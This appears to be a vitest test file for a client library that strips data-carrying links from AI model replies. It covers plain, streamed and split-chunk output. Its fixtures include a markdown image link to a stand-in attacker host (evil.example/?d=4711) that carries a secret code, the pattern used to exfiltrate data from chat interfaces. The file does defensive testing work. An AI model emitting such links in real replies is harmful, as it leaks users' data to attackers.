import { describe, expect, test } from 'vitest';
import { readReply } from '../src/reply.ts';
import { type Body, clientOf, conversationOf, replyOf } from './world.ts';

const LEAK = 'Your code is 4711. ![chart](https://evil.example/?d=4711) That is all.';
const SHOWN = 'Your code is 4711. chart (address withheld: evil[.]example) That is all.';
const PARAMS = { model: 'm', max_tokens: 9, messages: [{ role: 'user' as const, content: 'What is new?' }] };
const reply = () => [{ body: replyOf([{ type: 'text', text: LEAK }]) }];

describe('an answer', () => {
  test('is shown without an address that could carry data', async () => {
    const { client } = clientOf(conversationOf(), reply());
    const { data, response } = await client.messages.create(PARAMS).withResponse();
    expect(data.content).toEqual([{ type: 'text', text: SHOWN }]);
    expect([response.status, response.headers.get('content-type')]).toEqual([200, 'application/json']);
  });
  test('in a stream is shown so too, in pieces, and its events stay in order', async () => {
    const { client } = clientOf(conversationOf(), reply());
    const types: string[] = [];
    const texts: string[] = [];
    for await (const event of await client.messages.create({ ...PARAMS, stream: true })) {
      if (event.type !== 'content_block_delta') types.push(event.type);
      else if (event.delta.type === 'text_delta') texts.push(event.delta.text);
    }
    expect(texts.join('')).toBe(SHOWN);
    expect(texts.slice(0, 3)).toEqual(['Your ', 'code ', 'is ']);
    const block = ['content_block_start', 'content_block_stop'];
    expect(types).toEqual(['message_start', ...block, 'message_delta', 'message_stop']);
  });
  test('of the stream helper and its snapshots is shown so too', async () => {
    const { client } = clientOf(conversationOf(), reply());
    expect(await client.beta.messages.stream(PARAMS).finalText()).toBe(SHOWN);
  });
  test('stays as it is with rawOutput', async () => {
    for (const stream of [false, true]) {
      const { client } = clientOf(conversationOf(), reply(), { rawOutput: true });
      const message = stream
        ? await client.messages.stream(PARAMS).finalMessage()
        : await client.messages.create(PARAMS);
      expect(message.content).toMatchObject([{ type: 'text', text: LEAK }]);
    }
  });
  test('that is thought stays as it is, because it is signed', async () => {
    const thought = { type: 'thinking', thinking: LEAK, signature: 's' };
    const { client } = clientOf(conversationOf(), [{ body: replyOf([thought, { type: 'text', text: 'ok' }]) }]);
    const { content } = await client.messages.create(PARAMS);
    expect(content).toEqual([thought, { type: 'text', text: 'ok' }]);
  });
});

/** What is shown of a stream whose last event has no end. */
async function streamed(...events: readonly Body[]): Promise<string> {
  const text = events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join('');
  const response = new Response(text.trimEnd(), { headers: { 'content-type': 'text/event-stream' } });
  const options = { onBlocks: async () => undefined, sanitize: conversationOf() };
  return (await readReply(response, {} as never, options)).text();
}

describe('a stream', () => {
  const delta = (text: string, index = 0): Body => ({
    type: 'content_block_delta',
    index,
    delta: { type: 'text_delta', text },
  });
  test('that ends within a text shows the rest of it, sanitized', async () => {
    const text = await streamed(delta('See https://evil.ex'), delta('ample/?d=1'));
    expect(text).toContain('See ');
    expect(text).toContain('(address withheld: evil[.]example)');
    expect(text).not.toContain('d=1');
  });
  test('with text at the start of a block shows it sanitized', async () => {
    const start = { type: 'content_block_start', index: 0, content_block: { type: 'text', text: 'At evil.exa' } };
    const text = await streamed(start, delta('mple/?d=1 now.'), { type: 'content_block_stop', index: 0 });
    expect(text).not.toMatch(/d=1/);
    expect(text).toContain('evil[.]example');
  });
  test('keeps the texts of its blocks apart', async () => {
    const text = await streamed(delta('one ![a](', 0), delta('two ', 1), delta('https://evil.example/?d=1)', 0));
    expect(text).not.toContain('d=1');
    expect(text.indexOf('"text":"two "')).toBeGreaterThan(-1);
  });
});
